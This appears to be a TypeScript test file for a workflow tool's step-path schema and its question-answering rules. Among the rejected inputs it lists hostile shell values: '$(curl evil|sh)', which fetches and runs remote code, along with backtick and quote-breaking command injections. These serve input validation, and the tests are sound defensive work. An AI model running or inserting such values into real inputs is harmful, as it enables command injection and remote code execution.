import { canAnswerWithText } from './answer-with-text.ts';
import { APPROVAL_QUESTION_NUMBER } from './approval-question.ts';
import { stepPathSchema } from './run-question.schema.ts';

test.each(['2', '3[2]/1', '3/catch/1', '4/else/2', '5/finally/1', '3/if', '3[1]/until', '3[1]/more', '3[1]/next'])(
  '%s is the path of a step, in a run or in a branch',
  (path) => {
    for (const stepPath of [path, `7/on_the_Left/${path}`]) expect(stepPathSchema.parse(stepPath)).toBe(stepPath);
  },
);

test.each(['$(curl evil|sh)', '`id`', '1"; id; "', "1' 2", '1\\', '1\n2', '1\u001b[2J'])(
  '%j is no step path',
  (path) => {
    expect(stepPathSchema.safeParse(path).success).toBe(false);
  },
);

test.each([
  ['of an agent', { questionNumber: 1 }, true],
  ['about an interrupted step', {}, false],
  ['for an element', { questionNumber: 1, acceptsTarget: true as const }, false],
  ['for the approval of a step', { questionNumber: APPROVAL_QUESTION_NUMBER }, false],
])('a question %s may be answered in words: %p, %p', (_, question, expected) => {
  expect(canAnswerWithText(question)).toBe(expected);
});
